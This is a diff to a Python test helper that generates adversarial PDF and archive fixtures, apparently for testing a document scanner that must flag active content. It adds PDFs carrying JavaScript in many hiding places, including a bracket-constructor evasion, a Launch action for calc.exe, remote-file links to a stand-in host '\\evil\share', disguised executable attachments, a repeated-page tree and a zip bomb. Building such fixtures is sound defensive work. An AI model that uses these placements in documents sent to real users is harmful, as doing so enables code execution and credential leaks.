@@ -6,10 +6,11 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable, Mapping
 
 import pikepdf
-
-from tests.adversary.scene import png
+from pikepdf import Array, Dictionary, Name
+from PIL import Image
 
 HEAD = (
     b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/Names 6 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
@@ -65,7 +66,14 @@ def png_of(width: int, height: int) -> bytes:
     """A picture that says it is that large."""
     body = b"IHDR" + struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
     chunk = struct.pack("!I", 13) + body + struct.pack("!I", zlib.crc32(body))
-    return b"\x89PNG\r\n\x1a\n" + chunk + png()[33:]
+    return b"\x89PNG\r\n\x1a\n" + chunk + picture("PNG")[33:]
+
+
+def picture(kind: str, side: int = 8) -> bytes:
+    """A small honest picture, with noise so that it has some bytes."""
+    kept = io.BytesIO()
+    Image.effect_noise((side, side), 60).convert("RGB").save(kept, kind)
+    return kept.getvalue()
 
 
 def archive(**members: bytes) -> bytes:
@@ -78,3 +86,131 @@ def archive(**members: bytes) -> bytes:
 
 def docx_bomb(megabytes: int) -> bytes:
     return archive(word__document_DOT_xml=b"<x/>", word__media__a_DOT_bin=bytes(megabytes << 20))
+
+
+def pdf_of_kids(count: int) -> bytes:
+    """One page, named that many times in the tree of pages."""
+    parts = (
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Count %d/Kids[" % count + b"3 0 R " * count + b"]>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
+    )
+    body, places = b"%PDF-1.5\n", []
+    for number, part in enumerate(parts, 1):
+        places.append(len(body))
+        body += b"%d 0 obj" % number + part + b"endobj\n"
+    table = b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
+    return body + table + b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n%d\n%%%%EOF\n" % len(body)
+
+
+def changed_pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
+    """A blank page after that change."""
+    kept = io.BytesIO()
+    with pikepdf.new() as made:
+        made.add_blank_page()
+        change(made)
+        made.save(kept)
+    return kept.getvalue()
+
+
+def _opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        made.Root.OpenAction = action
+
+    return change
+
+
+def _outline(made: pikepdf.Pdf) -> None:
+    item = made.make_indirect(Dictionary(Title="x", A=script("app.alert(1)")))
+    made.Root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
+
+
+def _annotation(**more: object) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        made.pages[0].obj.Annots = Array([made.make_indirect(Dictionary(Rect=[0, 0, 9, 9], **more))])
+
+    return change
+
+
+def _form_field(name: str, **scripts: Dictionary) -> Callable[[pikepdf.Pdf], None]:
+    def change(made: pikepdf.Pdf) -> None:
+        shown = {"Subtype": Name.Widget, "Rect": [0, 0, 9, 9], "FT": Name.Tx, "T": name}
+        item = made.make_indirect(Dictionary(**shown, AA=Dictionary(**scripts)))
+        made.pages[0].obj.Annots = Array([item])
+        made.Root.AcroForm = Dictionary(Fields=Array([item]))
+
+    return change
+
+
+def _parent_field(made: pikepdf.Pdf) -> None:
+    parent = made.make_indirect(Dictionary(T="a", AA=Dictionary(K=script("app.launchURL('https://example.org')"))))
+    kid = made.make_indirect(Dictionary(Subtype=Name.Widget, Rect=[0, 0, 9, 9], Parent=parent))
+    parent.Kids = Array([kid])
+    made.pages[0].obj.Annots = Array([kid])
+    made.Root.AcroForm = Dictionary(Fields=Array([parent]))
+
+
+def _names(made: pikepdf.Pdf) -> None:
+    tree = Dictionary(Names=Array(["x", made.make_indirect(script("app.alert(1)"))]))
+    made.Root.Names = Dictionary(JavaScript=made.make_indirect(tree))
+
+
+def _xfa(made: pikepdf.Pdf) -> None:
+    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp:xdp/>"))
+
+
+def attached(content: bytes, name: str) -> bytes:
+    """A blank page with a file attached to it."""
+
+    def change(made: pikepdf.Pdf) -> None:
+        made.attachments[name] = content
+
+    return changed_pdf(change)
+
+
+def _action(kind: str, **more: object) -> Dictionary:
+    return Dictionary(S=Name(f"/{kind}"), **more)
+
+
+ACTIVE_PDFS: Mapping[str, Callable[[], bytes]] = {
+    "script on opening": lambda: changed_pdf(_opening(script("app.alert(1)"))),
+    "script behind another action": lambda: changed_pdf(_opening(_action("GoTo", Next=script("app.alert(1)")))),
+    "script in a list behind two": lambda: changed_pdf(
+        _opening(_action("GoTo", Next=Array([_action("Named", N=Name.NextPage, Next=Array([script("app.alert(1)")]))])))
+    ),
+    "script in the outline": lambda: changed_pdf(_outline),
+    "script of a parent field": lambda: changed_pdf(_parent_field),
+    "script by name": lambda: changed_pdf(_names),
+    "script of a rendition": lambda: changed_pdf(_annotation(Subtype=Name.Link, A=_action("Rendition", JS="app.alert(1)"))),
+    "script after a formatting one": lambda: changed_pdf(_opening(script('AFNumber_Format(2,0,0,0,"",true); app.alert(1)'))),
+    "script through brackets": lambda: changed_pdf(_opening(script('getField("a")["constructor"]("app.alert(1)")()'))),
+    "form in XML": lambda: changed_pdf(_xfa),
+    "program started": lambda: changed_pdf(_opening(_action("Launch", F="calc.exe"))),
+    "form sent": lambda: changed_pdf(_annotation(Subtype=Name.Link, A=_action("SubmitForm", F="https://example.org"))),
+    "data taken in": lambda: changed_pdf(_opening(_action("ImportData", F="a.fdf"))),
+    "file of another computer": lambda: changed_pdf(_opening(_action("GoToR", F="\\\\evil\\share\\a.pdf"))),
+    "file inside": lambda: changed_pdf(_opening(_action("GoToE", T=Dictionary(R=Name.C)))),
+    "address opened unasked": lambda: changed_pdf(_opening(_action("URI", URI="https://example.org/seen"))),
+    "address of a file": lambda: pdf(link="file://evil/share"),
+    "film": lambda: changed_pdf(_annotation(Subtype=Name.RichMedia)),
+    "program attached": lambda: attached(EXE, "rechnung.exe"),
+    "program attached as XML": lambda: attached(EXE, "factur-x.xml"),
+    "page attached": lambda: attached(HTML, "a.html"),
+    "drawing attached": lambda: attached(b"<?xml version='1.0'?>" + SVG, "a.xml"),
+    "document with script attached": lambda: attached(pdf(root_script="app.alert(1)"), "a.pdf"),
+}  # fmt: skip
+"""What runs, sends, plays or fetches, in every place a PDF has for it."""
+
+HARMLESS_PDFS: Mapping[str, Callable[[], bytes]] = {
+    "date of a form": lambda: changed_pdf(_form_field(
+        "tag", K=script('AFDate_KeystrokeEx("dd.mm.yyyy");'), F=script('AFDate_FormatEx("dd.mm.yyyy");'))),
+    "sum of a form": lambda: changed_pdf(_form_field(
+        "summe", C=script('AFSimple_Calculate("SUM", new Array ("a", "b"));'),
+        V=script("/** BVCALC a+b EVCALC **/ event.value=AFMakeNumber(getField(\"a\").value)+2;"))),
+    "link": lambda: pdf(link="https://example.org/"),
+    "mail address": lambda: pdf(link="mailto:a@example.org"),
+    "jump": lambda: changed_pdf(_opening(_action("GoTo", D=Array([0, Name.Fit])))),
+    "electronic invoice": lambda: attached(b"<?xml version='1.0'?><rsm:CrossIndustryInvoice/>", "factur-x.xml"),
+    "lines before it": lambda: b"\r\n@PJL JOB\r\n" + pdf(),
+}  # fmt: skip
+"""What official forms, invoices and scanners make."""
